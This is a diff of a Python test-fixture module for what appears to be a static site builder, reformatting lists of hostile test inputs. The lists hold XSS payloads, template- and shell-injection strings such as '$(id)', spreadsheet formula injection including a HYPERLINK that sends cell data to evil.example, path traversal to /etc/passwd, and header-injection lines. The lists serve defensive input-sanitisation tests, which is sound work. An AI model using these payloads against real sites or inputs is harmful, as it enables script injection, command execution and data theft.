@@ -47,7 +47,7 @@ TEXTS = (
     "{# comment #}{%- set x = 7*191 -%}{{ x }}",
     "${7*191} #{7*191} <%= 7*191 %> [[7*191]] %(site)s %s {0} {site}",
     "${{ github.token }} $(id) `id` ; id | id && id",
-    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
+    '=HYPERLINK("http://evil.example/"&A1,"x")',
     "=1+1",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -79,7 +79,21 @@ TEXTS = (
 )
 """For places that hold one line of text: titles, names, captions, corrections."""
 
-CONTROLS = ("\x00", "\x01", "\x02", "\x08", "\x0b", "\x1b[31mred", "\x7f", "\x9b31m", "\u2028", "\ufffe", "\ud800", "\r\nBcc: v@example.org", "\nER  - \nTY  - X")
+CONTROLS = (
+    "\x00",
+    "\x01",
+    "\x02",
+    "\x08",
+    "\x0b",
+    "\x1b[31mred",
+    "\x7f",
+    "\x9b31m",
+    "\u2028",
+    "\ufffe",
+    "\ud800",
+    "\r\nBcc: v@example.org",
+    "\nER  - \nTY  - X",
+)
 """What double quotes of YAML could smuggle in."""
 
 MARKDOWN = (
@@ -109,18 +123,18 @@ MARKDOWN = (
     "[x](https:///evil.example)",
     "[x](https://user:pass@evil.example/)",
     "[x](https://good.example\\@evil.example/)",
-    "[x](https://evil.example/\"onmouseover=alert(1))",
+    '[x](https://evil.example/"onmouseover=alert(1))',
     "[x](https://evil.example/'onmouseover='alert(1))",
-    "[x](<https://evil.example/\" onmouseover=\"alert(1)>)",
+    '[x](<https://evil.example/" onmouseover="alert(1)>)',
     "[x](https://evil.example/ '\" onmouseover=\"alert(1)')",
-    "[x](https://evil.example/ \"<script>alert(1)</script>\")",
+    '[x](https://evil.example/ "<script>alert(1)</script>")',
     "[<img src=x onerror=alert(1)>](https://evil.example/)",
     "[x][r]\n\n[r]: javascript:alert(1)",
     "[x][r]\n\n[r]: <data:text/html,x> '\"onclick=\"'",
     "[r]\n\n[R]: //evil.example/",
     "<javascript:alert(1)>",
     "<data:text/html,x>",
-    "<https://evil.example/\"onclick=alert(1)>",
+    '<https://evil.example/"onclick=alert(1)>',
     "<x@evil.example?bcc=v@example.org>",
     "[x](mailto:a@b.example?cc=c@d.example&body=%0d%0aBcc:x)",
     "[x](mailto:a@b.example%0d%0aBcc:v@example.org)",
@@ -128,20 +142,20 @@ MARKDOWN = (
     "![x](https://evil.example/pixel.gif)",
     "![x](//evil.example/pixel.gif)",
     "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "![\" onerror=\"alert(1)](media/none.jpg)",
+    '![" onerror="alert(1)](media/none.jpg)',
     "![x](media/../../../etc/passwd)",
-    "![x](../media/x.svg\" onerror=\"alert(1))",
+    '![x](../media/x.svg" onerror="alert(1))',
     "![x](media/%2e%2e/%2e%2e/digest.yaml)",
-    "![x](media/x.jpg \"t\\\" onload=\\\"alert(1)\")",
+    '![x](media/x.jpg "t\\" onload=\\"alert(1)")',
     "[x](../../../etc/passwd)",
     "[x](pages/../../etc/passwd)",
     "[x](%2e%2e/%2e%2e/etc/passwd)",
     "[x](topics/..)",
     "[x](topics/con)",
     "[x](issue:../../x)",
-    "[x](2025-01-06#\"onclick=alert(1))",
+    '[x](2025-01-06#"onclick=alert(1))',
     "[x](2025-01-06#<script>)",
-    "[x](#\"><script>alert(1)</script>)",
+    '[x](#"><script>alert(1)</script>)',
     "<script>alert(1)</script>",
     "<ScRiPt\n>alert(1)</sCrIpT>",
     "<script src=//evil.example/x.js></script>",
@@ -168,25 +182,25 @@ MARKDOWN = (
     "&#60;script&#62;alert(1)&#60;/script&#62;",
     "&#x3c;img src=x onerror=alert(1)&#x3e;",
     "`<script>alert(1)</script>`",
-    "``` \"><script>alert(1)</script>\nx\n```",
-    "```js onload=alert(1) class=\"x\" style=\"y\"\n<script>alert(1)</script>\n```",
+    '``` "><script>alert(1)</script>\nx\n```',
+    '```js onload=alert(1) class="x" style="y"\n<script>alert(1)</script>\n```',
     "Text.\n\n~~~{.x onclick=alert(1)}\n</code></pre><script>alert(1)</script>\n~~~",
     "Text.\n\n    </code></pre><script>alert(1)</script>",
     "| a |\n| --- |\n| <script>alert(1)</script> |",
     "Text.\n\n| a |\n| :-: |\n| <img src=x onerror=alert(1)> |",
     "Text.\n\n| a |\n|:-----|\n| x |",
     "Text[^a].\n\n[^a]: <script>alert(1)</script>",
-    "Text[^\"><script>].\n\n[^\"><script>]: x",
+    'Text[^"><script>].\n\n[^"><script>]: x',
     "Text[^a].\n\n[^a]: [x](javascript:alert(1))",
-    "{#x\" onclick=\"alert(1)}\n\nText.",
+    '{#x" onclick="alert(1)}\n\nText.',
     "{#x onclick=alert(1)}\n\nText.",
     "{#main .x style=color:red}\n\nText.",
     "{#x date=<script>}\n\nText.",
     "{#x}{{ 7*191 }}\n\nText.",
     "Text {onclick=alert(1)} text {.x} {: style=color:red}.",
-    "#\"><script>alert(1)</script>",
+    '#"><script>alert(1)</script>',
     "Text. #<script>",
-    "Text. #drones\"onclick=alert(1)",
+    'Text. #drones"onclick=alert(1)',
     "{{ 7*191 }}",
     "{% include '/etc/passwd' %}",
     "{{ ''.__class__.__mro__ }}",
@@ -205,7 +219,7 @@ MARKDOWN = (
     "## Military <script>\n\nText.",
     "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
     "> <script>alert(1)</script>",
-    "*<img src=x onerror=alert(1)>* **\"onclick=alert(1)** ~~</p><script>~~",
+    '*<img src=x onerror=alert(1)>* **"onclick=alert(1)** ~~</p><script>~~',
     "[x](https://evil.example/?a=1&lt;script&gt;&quot;onclick=alert(1))",
     "[x](https://xn--80ak6aa92e.example/) [x](https://аррle.example/)",
     "![x](media/x.svg#<script>)",
@@ -252,7 +266,9 @@ def archive(texts: tuple[str, ...], markdown: tuple[str, ...]) -> dict[str, str]
             f"- {{id: f{n}, title: {t}, unit: {t}, kind: level, description: {t}, values: [{{date: '{day}', value: {n + 1},"
             f" source: {t}, note: {t}}}, {{date: '{day[:4]}', low: 1, high: 9, source: {t}}}]}}\n"
         )
-        files[f"pages/p{n}.md"] = f"---\ntitle: {t}\nsummary: {t}\nnav: {'true' if n % 9 == 0 else 'false'}\n---\n\nWords.\n"
+        files[f"pages/p{n}.md"] = (
+            f"---\ntitle: {t}\nsummary: {t}\nnav: {'true' if n % 9 == 0 else 'false'}\n---\n\nWords.\n"
+        )
         files[f"issues/{day}.md"] = (
             f"---\ndate: {day}\ntitle: {t}\nedition: {t}\nsummary: {t}\nauthors: [{t}]\ncontributors: [{t}]\n"
             f"acknowledgements: [{t}]\nfunding: [{t}]\nkind: {'report' if n % 2 else 'review'}\n"
